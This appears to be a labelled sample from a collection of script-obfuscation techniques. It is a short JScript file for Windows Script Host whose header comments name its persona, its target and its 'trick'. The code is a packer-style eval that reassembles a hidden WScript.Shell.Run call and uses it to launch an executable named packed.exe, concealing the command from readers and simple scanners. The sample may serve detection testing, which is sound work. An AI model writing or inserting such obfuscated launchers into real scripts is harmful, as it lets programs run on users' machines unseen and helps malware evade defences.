// persona: wsh
// reaches: process packed.exe
// names: origin eval
// trick: every word of the program is a number into a list, put back and evaluated
eval(function (text, words) {
  for (var at = words.length - 1; at >= 0; at--) text = text.replace(new RegExp("\\b" + at.toString(36) + "\\b", "g"), words[at]);
  return text;
}('2 0("1.3").4("5.6")', "ActiveXObject|WScript|new|Shell|Run|packed|exe".split("|")));
